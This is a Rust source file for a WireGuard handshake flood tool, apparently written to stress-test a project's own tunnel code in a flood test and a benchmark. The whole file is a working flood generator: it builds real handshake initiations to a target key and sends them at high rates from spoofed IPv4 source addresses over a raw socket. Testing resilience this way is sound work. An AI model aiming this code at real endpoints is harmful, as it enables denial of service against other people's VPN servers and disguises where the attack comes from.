//! `wg_flood`: a WireGuard handshake flood, for the flood test
//! (`tests/tests/wireguard_flood.rs`) and bench (`bench/wg_flood.sh`).
//!
//! Builds a pool of real handshake initiations to the victim's public key
//! (gotatun, through vcpe's `WgPeer`: valid mac1, no mac2, each from a
//! fresh random static key), then replays them at a fixed rate from a
//! spoofed IPv4 source address and port (a raw socket with our own IPv4
//! and UDP headers: the flood can carry a peer's own address and port
//! without taking its socket's traffic), as the flood of issue 19 item 5
//! did.
//!
//! ```text
//! wg_flood --to 10.0.0.1:51820 --from 10.0.0.2:51820 --key <victim public key, base64>
//!          [--pps 92000] [--seconds 10] [--pool 256]
//! ```
//!
//! Prints one line at the end: `sent N datagrams in S s (R pps)`.
//! Needs CAP_NET_RAW (root).

use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use base64::Engine;
use vcpe_forwarding::tunnel::wireguard::{WgConfig, WgMessage, WgPeer, message_type};

/// Datagrams per `sendmmsg`.
const BATCH: usize = 64;

struct Args {
    to: SocketAddrV4,
    from: SocketAddrV4,
    key: [u8; 32],
    pps: u64,
    seconds: f64,
    pool: usize,
}

fn parse() -> Result<Args> {
    let mut it = std::env::args().skip(1);
    let (mut to, mut from, mut key) = (None, None, None);
    let (mut pps, mut seconds, mut pool) = (92_000u64, 10.0f64, 256usize);
    while let Some(flag) = it.next() {
        let v = it.next().with_context(|| format!("{flag} needs a value"))?;
        match flag.as_str() {
            "--to" => to = Some(v.parse().context("--to IPv4:port")?),
            "--from" => from = Some(v.parse().context("--from IPv4:port")?),
            "--key" => {
                let b = base64::engine::general_purpose::STANDARD
                    .decode(v.trim())
                    .context("--key: base64")?;
                key = Some(b.try_into().ok().context("--key: 32 bytes")?);
            }
            "--pps" => pps = v.parse()?,
            "--seconds" => seconds = v.parse()?,
            "--pool" => pool = v.parse()?,
            _ => bail!("unknown flag {flag} (see the doc comment of tests/src/bin/wg_flood.rs)"),
        }
    }
    Ok(Args {
        to: to.context("--to is required")?,
        from: from.context("--from is required")?,
        key: key.context("--key is required")?,
        pps: pps.max(1),
        seconds,
        pool: pool.max(1),
    })
}

/// A fresh initiation to `victim` from a random static key.
fn initiation(victim: [u8; 32]) -> Result<Vec<u8>> {
    use std::io::Read;
    let mut private = [0u8; 32];
    std::fs::File::open("/dev/urandom")?.read_exact(&mut private)?;
    let mut peer = WgPeer::new(WgConfig {
        private_key: private,
        peer_public_key: victim,
        preshared_key: None,
        persistent_keepalive: None,
    });
    // An IPv4 header alone: a packet to send makes the peer initiate.
    let packet = [
        0x45, 0, 0, 20, 0, 0, 0, 0, 64, 17, 0, 0, 10, 0, 0, 1, 10, 0, 0, 2,
    ];
    let mut out = Vec::new();
    peer.encapsulate(&packet, &mut out);
    if message_type(&out) != Some(WgMessage::HandshakeInit) {
        bail!("gotatun made no initiation");
    }
    Ok(out)
}

/// IPv4 + UDP header (checksum 0: allowed for UDP over IPv4) + payload.
fn datagram(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8], id: u16) -> Vec<u8> {
    let total = 20 + 8 + payload.len();
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&id.to_be_bytes());
    p.extend_from_slice(&[0x40, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&from.ip().octets());
    p.extend_from_slice(&to.ip().octets());
    let sum = checksum(&p);
    p[10..12].copy_from_slice(&sum.to_be_bytes());
    p.extend_from_slice(&from.port().to_be_bytes());
    p.extend_from_slice(&to.port().to_be_bytes());
    p.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    p
}

fn checksum(h: &[u8]) -> u16 {
    let mut sum: u32 = h
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn main() -> Result<()> {
    let a = parse()?;
    let pool: Vec<Vec<u8>> = (0..a.pool)
        .map(|i| initiation(a.key).map(|init| datagram(a.from, a.to, &init, i as u16)))
        .collect::<Result<_>>()?;
    // SAFETY: plain socket(2) call.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        bail!(
            "raw socket: {} (run as root: the flood spoofs its source)",
            std::io::Error::last_os_error()
        );
    }
    let dest = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*a.to.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut iovs: Vec<libc::iovec> = pool
        .iter()
        .map(|p| libc::iovec {
            iov_base: p.as_ptr() as *mut libc::c_void,
            iov_len: p.len(),
        })
        .collect();
    let total = (a.pps as f64 * a.seconds) as u64;
    let start = Instant::now();
    let mut sent = 0u64;
    let mut next = 0usize;
    while sent < total {
        let due = ((start.elapsed().as_secs_f64() * a.pps as f64) as u64).min(total);
        if due <= sent {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        let n = ((due - sent) as usize).min(BATCH);
        let mut msgs: Vec<libc::mmsghdr> = (0..n)
            .map(|k| {
                let iov = &mut iovs[(next + k) % pool.len()];
                // SAFETY: zeroed msghdr is valid; fields set below.
                let mut h: libc::mmsghdr = unsafe { std::mem::zeroed() };
                h.msg_hdr.msg_name = &dest as *const _ as *mut libc::c_void;
                h.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
                h.msg_hdr.msg_iov = iov as *mut libc::iovec;
                h.msg_hdr.msg_iovlen = 1;
                h
            })
            .collect();
        // SAFETY: `msgs` points at live iovecs, `dest` and pool buffers.
        let r = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), n as u32, 0) };
        if r < 0 {
            let e = std::io::Error::last_os_error();
            if e.raw_os_error() == Some(libc::ENOBUFS) || e.kind() == std::io::ErrorKind::WouldBlock
            {
                std::thread::sleep(Duration::from_micros(100));
                continue;
            }
            bail!("sendmmsg: {e}");
        }
        sent += r as u64;
        next = (next + r as usize) % pool.len();
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "sent {sent} datagrams in {secs:.1} s ({:.0} pps)",
        sent as f64 / secs
    );
    // SAFETY: our fd.
    unsafe { libc::close(fd) };
    Ok(())
}
